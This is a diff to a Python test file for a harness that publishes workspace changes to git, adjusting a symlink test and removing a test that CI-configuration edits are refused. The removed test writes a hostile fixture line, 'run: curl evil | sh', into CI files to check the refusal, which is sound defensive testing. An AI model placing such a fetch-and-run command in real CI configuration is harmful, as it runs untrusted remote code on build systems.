@@ -378,22 +378,23 @@ def test_an_encoding_attribute_cannot_hide_a_credential(pod: Pod) -> None:
     assert "leak.txt" in (report.message or "")
 
 
-def test_a_tracked_folder_replaced_by_a_link_is_not_read_through(pod: Pod, tmp_path: Path) -> None:
-    outside = tmp_path / "outside"
-    outside.mkdir()
-    (outside / "README.md").write_text("outside the workspace\n")
+def test_a_tracked_folder_replaced_by_a_link_is_not_read_through(pod: Pod) -> None:
+    """A link is taken as its target's bytes, never followed (one out of the tree is refused:
+    test_protected_paths.py)."""
+    (pod.workdir / "src").mkdir()
+    (pod.workdir / "src" / "main.py").write_text("print(1)\n")
     (pod.workdir / "README.md").unlink()
-    os.symlink(str(outside), pod.workdir / "README.md")  # a tracked file replaced by a link to a folder
-    (pod.workdir / "docs").symlink_to(outside)
+    os.symlink("src", pod.workdir / "README.md")  # a tracked file replaced by a link to a folder
+    (pod.workdir / "docs").symlink_to("src")
 
     report = pod.publish(pod.plan())
 
     assert report.reason is None, report.message
     tree = pod.tree(report.commit or "")
     assert tree["README.md"][0] == "120000" and tree["docs"][0] == "120000"
-    assert not [path for path in tree if path.startswith("docs/")]
+    assert not [path for path in tree if path.startswith(("docs/", "README.md/"))]
     shown = git("show", f"{report.commit}:README.md", cwd=pod.origin)
-    assert shown == str(outside)  # the link's target, not what it points at
+    assert shown == "src"  # the link's target, not what it points at
 
 
 def test_odd_names_modes_and_ignored_files_are_taken_as_git_would(pod: Pod) -> None:
@@ -471,21 +472,6 @@ def test_the_branch_is_created_never_moved(pod: Pod) -> None:
     assert report.reason == Reason.PushRejected, report
     assert "branch main exists" in (report.message or "")
     assert pod.branches()["main"] == main
-
-
-@pytest.mark.parametrize("path", [".github/workflows/ci.yml", ".gitlab-ci.yml", ".gitea/workflows/x.yaml"])
-def test_a_change_to_ci_configuration_is_refused_unless_the_run_allows_it(pod: Pod, path: str) -> None:
-    (pod.workdir / path).parent.mkdir(parents=True, exist_ok=True)
-    (pod.workdir / path).write_text("run: curl evil | sh\n")
-
-    refused = pod.publish(pod.plan())
-    assert refused.reason == Reason.ChangeTouchesCI, refused
-    assert path in (refused.message or "") and "allowCIChanges" in (refused.message or "")
-    assert "harness/run-1" not in pod.branches()
-
-    allowed = pod.publish(pod.plan(allow_ci_changes=True))
-    assert allowed.reason is None, allowed.message
-    assert pod.branches()["harness/run-1"] == allowed.commit
 
 
 def plant_in_claim(volume: Path, workdir: Path, marker: Path, how: str) -> None:
